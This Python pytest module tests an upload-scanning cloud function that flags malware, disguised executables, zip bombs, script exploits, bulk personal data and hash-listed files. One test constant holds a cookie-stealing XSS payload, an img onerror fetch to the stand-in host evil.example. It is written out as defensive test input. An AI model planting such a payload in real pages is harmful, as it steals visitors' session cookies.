"""UploadScannerFunction under moto: the real template deployed, uploads driven through SQS events.

Each sample file of issue 5 is uploaded, its S3 notification handed to the handler as SQS would, and
the object's tags, the quarantine, the ledger's violations, account state and counters are checked.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote_plus

import boto3
import pytest

from tests.conftest import load_handler
from tests.unit.uploads import samples

MD = "md"  # Markdown names are built: tests/unit/test_docs.py takes a written-out one for a file reference

ACCOUNT = "acme-corp"
UPLOADED = datetime(2026, 11, 27, 10, 0, tzinfo=UTC)  # every record's eventTime and SQS SentTimestamp

# The scanner judges a finding against the clock (a suspension already over is recorded, not enforced):
# the clock is set a few seconds after the uploads (ticking: moto and the handlers see time pass), so
# a 24 h suspension is a live one on any date.
pytestmark = pytest.mark.time_machine(UPLOADED + timedelta(seconds=5), tick=True)


def s3_record(
    bucket: str,
    key: str,
    *,
    version: str | None,
    etag: str | None,
    size: int,
    name: str = "ObjectCreated:Put",
    sequencer: str = "0055AED6DCD90281E5",
) -> dict[str, Any]:
    obj: dict[str, Any] = {"key": quote_plus(key), "size": size, "sequencer": sequencer}
    if etag:
        obj["eTag"] = etag
    if version:
        obj["versionId"] = version
    return {
        "eventVersion": "2.1",
        "eventSource": "aws:s3",
        "awsRegion": "us-east-1",
        "eventTime": UPLOADED.strftime("%Y-%m-%dT%H:%M:%S.000Z"),
        "eventName": name,
        "s3": {
            "s3SchemaVersion": "1.0",
            "configurationId": "uploads",
            "bucket": {"name": bucket, "arn": f"arn:aws:s3:::{bucket}"},
            "object": obj,
        },
    }


def sqs_event(*bodies: dict[str, Any] | str) -> dict[str, Any]:
    return {
        "Records": [
            {
                "messageId": f"m-{i}",
                "receiptHandle": f"r-{i}",
                "body": body if isinstance(body, str) else json.dumps(body),
                "attributes": {
                    "ApproximateReceiveCount": "1",
                    "SentTimestamp": str(int(UPLOADED.timestamp() * 1000)),
                    "SenderId": "s3",
                    "ApproximateFirstReceiveTimestamp": str(int(UPLOADED.timestamp() * 1000)),
                },
                "messageAttributes": {},
                "md5OfBody": "",
                "eventSource": "aws:sqs",
                "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:uploads",
                "awsRegion": "us-east-1",
            }
            for i, body in enumerate(bodies)
        ]
    }


class Env:
    def __init__(self, stack: Any, lambda_context: Any) -> None:
        self.stack = stack
        self.ctx = lambda_context
        self.s3 = boto3.client("s3")
        self.bucket = stack.outputs["UploadsBucketName"]
        self.quarantine = stack.outputs["QuarantineBucketName"]
        self.app = load_handler("upload_scanner")
        # The template versions the bucket; moto's CloudFormation does not apply it.
        self.s3.put_bucket_versioning(Bucket=self.bucket, VersioningConfiguration={"Status": "Enabled"})

    def put(
        self, key: str, data: bytes, tagging: str | None = None, content_type: str | None = None
    ) -> dict[str, Any]:
        extra: dict[str, str] = {"Tagging": tagging} if tagging else {}
        if content_type:
            extra["ContentType"] = content_type
        resp = self.s3.put_object(Bucket=self.bucket, Key=key, Body=data, **extra)
        return s3_record(
            self.bucket, key, version=resp.get("VersionId"), etag=resp["ETag"].strip('"'), size=len(data)
        )

    def run(self, *records: dict[str, Any]) -> dict[str, Any]:
        result: dict[str, Any] = self.app.lambda_handler(sqs_event({"Records": list(records)}), self.ctx)
        return result

    def tags(self, key: str, version: str | None = None, bucket: str | None = None) -> dict[str, str]:
        kwargs = {"VersionId": version} if version else {}
        tag_set = self.s3.get_object_tagging(Bucket=bucket or self.bucket, Key=key, **kwargs)["TagSet"]
        return {t["Key"]: t["Value"] for t in tag_set}

    def exists(self, key: str, version: str | None = None) -> bool:
        kwargs = {"VersionId": version} if version else {}
        try:
            self.s3.head_object(Bucket=self.bucket, Key=key, **kwargs)
            return True
        except Exception:
            return False

    def ledger(self) -> Any:
        from aup import bootstrap

        return bootstrap.ledger()

    def violations(self, account: str = ACCOUNT) -> list[Any]:
        return list(self.ledger().list_violations(account, limit=100).items)

    def totals(self, account: str = ACCOUNT) -> dict[str, Any]:
        return self.ledger().get_counters([(account, "totals")]).get((account, "totals"), {})


@pytest.fixture
def env(stack: Any, lambda_context: Any) -> Env:
    return Env(stack, lambda_context)


def _rules(violations: list[Any]) -> set[str]:
    return {v.rule_id for v in violations}


# --- malware ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name,data",
    [
        ("eicar.com.txt", samples.EICAR),
        ("bundle.zip", samples.eicar_zipped()),
        ("nested.zip", samples.eicar_nested()),
    ],
)
def test_eicar_plain_zipped_nested_is_quarantined_and_suspends_indefinitely(
    env: Env, name: str, data: bytes
) -> None:
    key = f"accounts/{ACCOUNT}/in/{name}"
    rec = env.put(key, data)
    assert env.run(rec) == {"batchItemFailures": []}

    assert not env.exists(key, rec["s3"]["object"]["versionId"])  # moved out of uploads
    q_key = f"{env.bucket}/{key}"
    q_tags = env.tags(q_key, bucket=env.quarantine)
    assert q_tags["aup-verdict"] == "threat"
    assert q_tags["aup-scan"] == "complete"
    assert "I3-malware-signature" in q_tags["aup-rules"]
    assert "I3-malware-signature" in _rules(env.violations())
    state = env.ledger().get_account(ACCOUNT)
    assert state.status == "suspended" and state.suspension.kind == "indefinite"


def test_pe_under_jpg_name_is_a_disguised_executable(env: Env) -> None:
    rec = env.put(f"accounts/{ACCOUNT}/photos/holiday.jpg", samples.pe_executable())
    env.run(rec)
    (v,) = [v for v in env.violations() if v.rule_id == "I3-disguised-executable"]
    assert v.evidence["formats"] == ["pe"] and v.evidence["extensions"] == ["jpg"]
    assert env.ledger().get_account(ACCOUNT).suspension.kind == "temporary"


def test_html_with_onerror_exfiltration_is_a_script_exploit(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/site/invoice.html"
    rec = env.put(key, samples.html_onerror_exfiltration())
    env.run(rec)
    (v,) = [v for v in env.violations() if v.rule_id == "I3-script-in-document"]
    assert v.evidence["event_handlers"] == {"onerror": 1}
    assert "document.cookie" in v.evidence["exfiltration_markers"]
    assert env.tags(f"{env.bucket}/{key}", bucket=env.quarantine)["aup-verdict"] == "threat"


GUIDE = (
    b"# Preventing cross-site scripting\n\nA comment an attacker controls can hold:\n\n"
    b"```html\n<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">\n```\n"
)


def test_a_markdown_guide_is_judged_by_the_type_it_is_served_as(env: Env) -> None:
    """Stored as text/markdown, the guide's fenced payload is code a renderer prints: clean, where it
    was. The same bytes stored as text/html are a page a browser runs: quarantined, a strike."""
    doc = f"accounts/{ACCOUNT}/docs/xss.{MD}"
    env.run(env.put(doc, GUIDE, content_type="text/markdown; charset=utf-8"))
    assert env.tags(doc)["aup-verdict"] == "clean" and env.violations() == []

    page = f"accounts/{ACCOUNT}/docs/xss-page.{MD}"
    rec = env.put(page, GUIDE, content_type="text/html")
    env.run(rec)
    (v,) = [v for v in env.violations() if v.rule_id == "I3-script-in-document"]
    assert v.decision == "strike" and not env.exists(page, rec["s3"]["object"]["versionId"])


def test_zip_bomb_is_caught_without_expanding_it(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/bomb.zip"
    rec = env.put(key, samples.nested_zip_bomb())
    env.run(rec)
    (v,) = [v for v in env.violations() if v.rule_id == "I3-archive-bomb"]
    assert (v.evidence["reason"], v.evidence["expanding_layers"], v.decision) == ("ratio", 4, "strike")
    assert not env.exists(key, rec["s3"]["object"]["versionId"])


def test_one_layer_of_zeros_past_the_ratio_is_read_and_clean(env: Env) -> None:
    """A preallocated, zero-filled file zipped: 1000:1 at one layer, as an empty disk image under xz is.
    It is read to its end (within ``shallow_bomb_budget_bytes``): clean, where it was, no violation."""
    key = f"accounts/{ACCOUNT}/exports/preallocated.zip"
    rec = env.put(key, samples.zip_bomb())
    env.run(rec)
    assert (env.tags(key)["aup-verdict"], env.tags(key)["aup-scan"]) == ("clean", "complete")
    assert env.violations() == []


def test_one_layer_past_the_shallow_budget_is_held_for_review_not_struck(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past ``shallow_bomb_budget_bytes`` (16 MiB here) the file was not read to its end: never clean. It
    stays where it is, held (only a clean object is readable) and tagged review; the account gets a
    review, no strike."""
    from aup import bootstrap
    from aup.policy.loader import default_policy_text

    text = default_policy_text().replace(
        "shallow_bomb_budget_bytes: 1073741824", "shallow_bomb_budget_bytes: 16777216"
    )
    assert "shallow_bomb_budget_bytes: 16777216" in text
    boto3.client("ssm").put_parameter(Name="/aup/policy", Value=text, Type="String")
    monkeypatch.setenv("AUP_POLICY_PARAMETER", "/aup/policy")
    bootstrap.reset()
    env.app = load_handler("upload_scanner")

    key = f"accounts/{ACCOUNT}/exports/preallocated.zip"
    rec = env.put(key, samples.zip_bomb())
    env.run(rec)
    (v,) = [v for v in env.violations() if v.rule_id == "I3-archive-bomb"]
    assert (v.evidence["expanding_layers"], v.decision) == (1, "review")
    assert (env.tags(key)["aup-verdict"], env.tags(key)["aup-scan"]) == ("review", "too-large")
    assert env.ledger().get_account(ACCOUNT).status != "suspended"


# --- content policy --------------------------------------------------------------------------------


def test_hidden_trademarks_are_a_violation_and_a_strike(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/seo/landing.html"
    rec = env.put(key, samples.hidden_trademark_page())
    env.run(rec)
    tags = env.tags(key)
    assert tags["aup-verdict"] == "violation" and tags["aup-rules"] == "W6-hidden-trademark"
    (v,) = env.violations()
    assert v.evidence["in_meta"] == {"CIMCON": 1} and v.evidence["in_hidden_text"]["CIMCON"] >= 3
    assert v.decision == "strike"
    assert "CIMCON official partner" not in json.dumps(v.evidence)


def test_csv_of_valid_cards_is_bulk_personal_data_with_last_four_only(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/exports/customers.csv"
    rec = env.put(key, samples.cards_csv(40))
    env.run(rec)
    assert env.tags(key)["aup-verdict"] == "violation"
    (v,) = env.violations()
    assert v.rule_id == "W2-bulk-personal-data" and v.evidence["cards"] == 40
    text = json.dumps(v.evidence)
    assert all(card not in text for card in samples.valid_cards(40))
    assert all(s.startswith("****") for s in v.evidence["card_last4"])


def test_csv_of_valid_ssns_is_bulk_personal_data(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/hr/staff.csv"
    env.run(env.put(key, samples.ssn_csv(30)))
    (v,) = env.violations()
    assert v.rule_id == "W2-bulk-personal-data" and v.evidence["ssns"] == 30
    assert "-" not in "".join(str(x) for x in v.evidence.values() if isinstance(x, int))


def test_clean_business_csv_with_near_misses_is_clean(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/orders.csv"
    rec = env.put(key, samples.business_csv(), tagging="project=alpha&owner=finance")
    env.run(rec)
    tags = env.tags(key)
    assert tags["aup-verdict"] == "clean" and tags["aup-scan"] == "complete"
    assert tags["project"] == "alpha" and tags["owner"] == "finance"  # the uploader's tags stay
    assert len(tags["aup-sha256"]) == 64 and tags["aup-account"] == ACCOUNT
    assert env.violations() == []


def test_media_beyond_the_allowance_is_d6_and_totals_follow_deletes(env: Env) -> None:
    mb = 1_000_000
    video = env.put(f"accounts/{ACCOUNT}/media/clip.mp4", samples.mp4_video(60 * mb))
    env.run(video)
    assert env.violations() == []  # 60 MB < free plan's 100 MB
    audio = env.put(f"accounts/{ACCOUNT}/media/song.mp3", samples.mp3_audio(50 * mb))
    env.run(audio)
    (v,) = env.violations()
    assert v.rule_id == "D6-media-hoarding" and v.evidence["media_bytes"] == 110 * mb
    tags = env.tags(f"accounts/{ACCOUNT}/media/song.mp3")
    assert tags["aup-verdict"] == "clean" and "D6-media-hoarding" in tags["aup-rules"]
    assert env.totals()["media_bytes"] == 110 * mb

    # The user deletes the song version: totals drop by exactly what it added, once.
    removed = s3_record(
        env.bucket,
        f"accounts/{ACCOUNT}/media/song.mp3",
        version=audio["s3"]["object"]["versionId"],
        etag=None,
        size=0,
        name="ObjectRemoved:Delete",
        sequencer="0066",
    )
    env.s3.delete_object(
        Bucket=env.bucket,
        Key=f"accounts/{ACCOUNT}/media/song.mp3",
        VersionId=audio["s3"]["object"]["versionId"],
    )
    env.run(removed)
    env.run(removed)
    totals = env.totals()
    assert totals["media_bytes"] == 60 * mb and totals["stored_bytes"] == 60 * mb and totals["objects"] == 1


# --- hash lists ------------------------------------------------------------------------------------


def test_blocklisted_hash_quarantines_reports_and_suspends(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    import hashlib

    from aup import bootstrap
    from aup.policy.loader import default_policy_text

    data = b"\x89PNG\r\n\x1a\n" + b"synthetic known-illegal sample" * 10
    ops = "aup-ops-data"
    env.s3.create_bucket(Bucket=ops)
    env.s3.put_object(
        Bucket=ops, Key="lists/illegal.txt", Body=f"# list\n{hashlib.sha256(data).hexdigest()}\n"
    )
    text = default_policy_text().replace(
        "known_illegal:   {rule_id: W4-known-illegal-hash, uri: null}",
        f"known_illegal:   {{rule_id: W4-known-illegal-hash, uri: 's3://{ops}/lists/illegal.txt'}}",
    )
    boto3.client("ssm").put_parameter(Name="/aup/policy", Value=text, Type="String")
    monkeypatch.setenv("AUP_POLICY_PARAMETER", "/aup/policy")
    bootstrap.reset()
    env.app = load_handler("upload_scanner")

    key = f"accounts/{ACCOUNT}/img/pic.png"
    rec = env.put(key, data)
    env.run(rec)
    assert not env.exists(key, rec["s3"]["object"]["versionId"])
    assert env.tags(f"{env.bucket}/{key}", bucket=env.quarantine)["aup-rules"] == "W4-known-illegal-hash"
    (v,) = env.violations()
    assert v.rule_id == "W4-known-illegal-hash" and v.evidence["mandatory_report"] is True
    state = env.ledger().get_account(ACCOUNT)
    assert state.suspension.kind == "indefinite"
    report = env.ledger().get_counters([("report:mandatory", v.violation_id)])[
        ("report:mandatory", v.violation_id)
    ]
    assert report["pending"] == 1 and report["account_id"] == {ACCOUNT}
    assert report["sha256"] == {hashlib.sha256(data).hexdigest()}


# --- not scanned -----------------------------------------------------------------------------------


def test_encrypted_zip_is_tagged_not_scanned_never_clean(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/vault.zip"
    env.run(env.put(key, samples.encrypted_zip()))
    tags = env.tags(key)
    assert tags["aup-verdict"] == "not-scanned" and tags["aup-scan"] == "encrypted"


def test_oversized_object_is_tagged_too_large_and_not_read(env: Env, monkeypatch: pytest.MonkeyPatch) -> None:
    from aup import bootstrap

    monkeypatch.setenv("SCAN_LIMIT_BYTES", "1000")
    bootstrap.reset()
    env.app = load_handler("upload_scanner")
    key = f"accounts/{ACCOUNT}/big.bin"
    env.run(env.put(key, samples.EICAR + b"\x00" * 5000))
    tags = env.tags(key)
    assert tags["aup-verdict"] == "not-scanned" and tags["aup-scan"] == "too-large"
    assert "aup-sha256" not in tags
    assert env.totals()["stored_bytes"] == len(samples.EICAR) + 5000  # still counted against storage


def test_object_deleted_before_the_scan_is_skipped(env: Env) -> None:
    key = f"accounts/{ACCOUNT}/gone.txt"
    rec = env.put(key, b"short-lived")
    env.s3.delete_object(Bucket=env.bucket, Key=key, VersionId=rec["s3"]["object"]["versionId"])
    assert env.run(rec) == {"batchItemFailures": []}
    assert env.totals() == {}


# --- delivery --------------------------------------------------------------------------------------


def test_redelivered_event_changes_nothing(env: Env) -> None:
    rec = env.put(f"accounts/{ACCOUNT}/exports/again.csv", samples.cards_csv(20))
    env.run(rec)
    first = (env.violations(), env.totals(), env.ledger().get_account(ACCOUNT).version)
    env.run(rec)
    env.run(rec)
    assert (env.violations(), env.totals(), env.ledger().get_account(ACCOUNT).version) == first
    assert len(first[0]) == 1


def test_test_event_unattributed_key_and_bad_record_in_one_batch(env: Env) -> None:
    key = "loose/files/report+2026 final.txt"  # outside accounts/<id>/; spaces arrive as '+'
    rec = env.put(key, b"plain text")
    event = sqs_event(
        {"Service": "Amazon S3", "Event": "s3:TestEvent", "Bucket": env.bucket},
        {"Records": [rec]},
        "{not json",
    )
    result = env.app.lambda_handler(event, env.ctx)
    assert result == {"batchItemFailures": [{"itemIdentifier": "m-2"}]}
    tags = env.tags(key)
    assert tags["aup-account"] == "unattributed" and tags["aup-verdict"] == "clean"
    assert env.ledger().list_accounts().items == []


def test_storage_bytes_metric_is_published_per_account(env: Env, capsys: pytest.CaptureFixture[str]) -> None:
    env.run(env.put(f"accounts/{ACCOUNT}/a.txt", b"x" * 1234))
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines() if '"_aws"' in line]
    storage = [m for m in lines if "StorageBytes" in m]
    assert storage and storage[0]["AccountId"] == ACCOUNT and storage[0]["StorageBytes"] == [1234.0]
    assert storage[0]["_aws"]["CloudWatchMetrics"][0]["Namespace"] == "AUP/Usage"


# --- issue "Attacks that get through today" 5, "Honest customers" 10 ----------------------------------


def _hash_listed_policy(env: Env, monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    import hashlib

    from aup import bootstrap
    from aup.policy.loader import default_policy_text

    ops = "aup-ops-data"
    env.s3.create_bucket(Bucket=ops)
    env.s3.put_object(Bucket=ops, Key="lists/abuse.txt", Body=f"{hashlib.sha256(data).hexdigest()}\n")
    text = default_policy_text().replace(
        "abuse_material:  {rule_id: I2-abuse-material-hash, uri: null}",
        f"abuse_material:  {{rule_id: I2-abuse-material-hash, uri: 's3://{ops}/lists/abuse.txt'}}",
    )
    boto3.client("ssm").put_parameter(Name="/aup/policy", Value=text, Type="String")
    monkeypatch.setenv("AUP_POLICY_PARAMETER", "/aup/policy")
    bootstrap.reset()
    env.app = load_handler("upload_scanner")


def test_unattributed_hash_match_is_quarantined_and_reported(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hashlib

    from aup.detectors.uploads.detectors import UploadedObject
    from aup.domain.models import Source

    data = b"\x89PNG\r\n\x1a\n" + b"synthetic listed sample" * 10
    _hash_listed_policy(env, monkeypatch, data)
    key = "shared/drop/pic.png"  # outside accounts/<id>/: no account to act on
    rec = env.put(key, data)
    env.run(rec)
    assert not env.exists(key, rec["s3"]["object"]["versionId"])
    obj = UploadedObject(env.bucket, key, rec["s3"]["object"]["versionId"], None, len(data), None, UPLOADED)
    from aup.domain.models import Finding

    vid = Finding(
        rule_id="I2-abuse-material-hash",
        clause="I2",
        account_id=None,
        source=Source.s3,
        source_event_id=obj.source_event_id,
        detected_at=UPLOADED,
        confidence=1.0,
        summary="x",
        evidence={},
    ).violation_id
    report = env.ledger().get_counters([("report:mandatory", vid)])[("report:mandatory", vid)]
    assert report["pending"] == 1 and report["account_id"] == {"unattributed"}
    assert report["sha256"] == {hashlib.sha256(data).hexdigest()}


def test_business_plan_large_file_is_scanned_beyond_the_function_limit(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    from aup import bootstrap
    from aup.domain.models import AccountState, hash_api_key

    monkeypatch.setenv("SCAN_LIMIT_BYTES", "1000")
    bootstrap.reset()
    env.app = load_handler("upload_scanner")
    bootstrap.ledger().create_account(
        AccountState(account_id="big-co", plan="business"), hash_api_key("k-big"), UPLOADED, "test"
    )
    key = "accounts/big-co/media/film.mp4"
    env.run(env.put(key, samples.mp4_video(5000)))
    tags = env.tags(key)
    assert tags["aup-verdict"] == "clean" and tags["aup-scan"] == "complete" and len(tags["aup-sha256"]) == 64
    key = f"accounts/{ACCOUNT}/media/film.mp4"  # the free plan: the function's limit applies
    env.run(env.put(key, samples.mp4_video(5000)))
    assert env.tags(key)["aup-scan"] == "too-large"


def test_operator_rules_folder_with_a_broken_file_loads_the_rest(
    env: Env,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    from aup import bootstrap
    from aup.policy.loader import default_policy_text

    ops = "aup-ops-rules"
    env.s3.create_bucket(Bucket=ops)
    env.s3.put_object(
        Bucket=ops, Key="yara/base/marker.yar", Body=b'rule M { strings: $m = "OPS-MARK-77" condition: $m }'
    )
    env.s3.put_object(
        Bucket=ops,
        Key="yara/top.yar",
        Body=b'include "base/marker.yar"\nrule T { condition: M and owner != "" }',
    )
    env.s3.put_object(Bucket=ops, Key="yara/zz/bad.yar", Body=b"rule Bad { condition: Undefined_Rule }")
    text = default_policy_text().replace("extra_rules_uri: null", f"extra_rules_uri: 's3://{ops}/yara/'")
    boto3.client("ssm").put_parameter(Name="/aup/policy", Value=text, Type="String", Overwrite=True)
    monkeypatch.setenv("AUP_POLICY_PARAMETER", "/aup/policy")
    bootstrap.reset()
    env.app = load_handler("upload_scanner")
    key = f"accounts/{ACCOUNT}/notes.txt"
    env.run(env.put(key, b"hello OPS-MARK-77"))
    assert env.tags(f"{env.bucket}/{key}", bucket=env.quarantine)["aup-rules"] == "I3-malware-signature"
    (v,) = env.violations()
    assert set(v.evidence["rules"]) == {"M", "T"}
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.startswith("{")]
    rejected = [r for r in caplog.records if r.getMessage() == "YARA rule file rejected"]
    assert [r.rule_file for r in rejected] == ["zz/bad.yar"]  # type: ignore[attr-defined]
    assert "Undefined_Rule" in rejected[0].error  # type: ignore[attr-defined]
    assert [m["YaraRuleFilesRejected"] for m in lines if "YaraRuleFilesRejected" in m] == [[1.0]]
